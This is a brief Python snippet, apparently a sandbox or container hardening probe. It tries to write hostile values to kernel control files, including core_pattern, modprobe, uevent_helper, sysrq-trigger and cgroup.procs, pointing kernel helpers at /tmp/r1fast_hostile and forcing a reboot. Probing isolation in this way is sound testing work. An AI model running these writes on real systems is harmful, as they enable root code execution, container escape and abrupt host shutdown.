for path, value in (
    ("/proc/sys/kernel/core_pattern", "|/tmp/r1fast_hostile"),
    ("/proc/sys/kernel/modprobe", "/tmp/r1fast_hostile"),
    ("/proc/sysrq-trigger", "b"),
    ("/proc/sys/vm/drop_caches", "3"),
    ("/proc/1/oom_score_adj", "-1000"),
    ("/sys/kernel/uevent_helper", "/tmp/r1fast_hostile"),
    ("/sys/fs/cgroup/cgroup.procs", "0"),
):
    try:
        with open(path, "w") as file:
            file.write(value)
        print("wrote", path)
    except OSError:
        pass
